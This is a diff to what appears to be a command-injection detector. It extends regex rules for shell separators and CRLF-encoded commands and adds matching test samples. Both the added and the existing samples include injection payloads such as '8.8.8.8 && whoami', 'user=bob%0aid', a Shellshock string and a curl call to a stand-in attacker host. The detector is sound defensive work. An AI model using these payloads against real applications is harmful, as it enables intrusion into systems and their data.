@@ -303,11 +303,18 @@ _INJECTION = code(
             confidence=0.75,
         ),
         runs(
-            _BEGIN + r"(?:[\w:/-]{0,40}[.0-9/][\w.:/-]{0,40}\s?)?(?:;|\|{1,2}|&{1,2}) ?"
-            r"(?:id|ls|pwd|ps|dir|env|sleep\s[0-9]{1,4})"
+            _BEGIN + r"(?:(?:[\w.-]{1,32}=)?[\w:/-]{0,40}[.0-9/][\w.:/-]{0,40}\s?)?(?:;|\|{1,2}|&{1,2}) ?"
+            r"(?:id|ls|pwd|ps|dir|env|whoami|uname|hostname|sleep\s[0-9]{1,4})"
             r"[;&|#]{0,2}" + _LINE_END,
-            *_after_separators("id ls pwd ps dir env sleep", "", " "),
+            *_after_separators("id ls pwd ps dir env whoami uname hostname sleep", "", " "),
             confidence=0.7,
+        ),
+        runs(
+            rf"=[\w.@+-]{{0,40}}(?:%0[aAdD]){{1,2}}{_ASKING}(?:[^\w\n]|(?m:$))|{_BEGIN}[\"'] ?(?:;|&&"
+            rf"|\|) ?{_ASKING}\b[^\n\"'>]{{0,60}}[\"'#]",
+            *_after_separators(_ASKED, "", " "),
+            *(f"%0d{command}" for command in _ASKED.split()),
+            confidence=0.8,
         ),
         runs(
             _BEGIN + r"[^\s=`|\x1a]{0,64}\$\(" + _ASKING + r"\b[^)\n]{0,80}\)[^\s\\]{0,16}" + _LINE_END,
@@ -365,6 +372,9 @@ _INJECTION = code(
         "() { :;}; echo vulnerable",
         "name%0awhoami",
         'ann"&&curl http://evil.example/x',
+        "8.8.8.8 && whoami",
+        "user=bob%0aid",
+        "'; ls -la '",
     ),
     (
         "cd /app && ls -la; sleep 5",
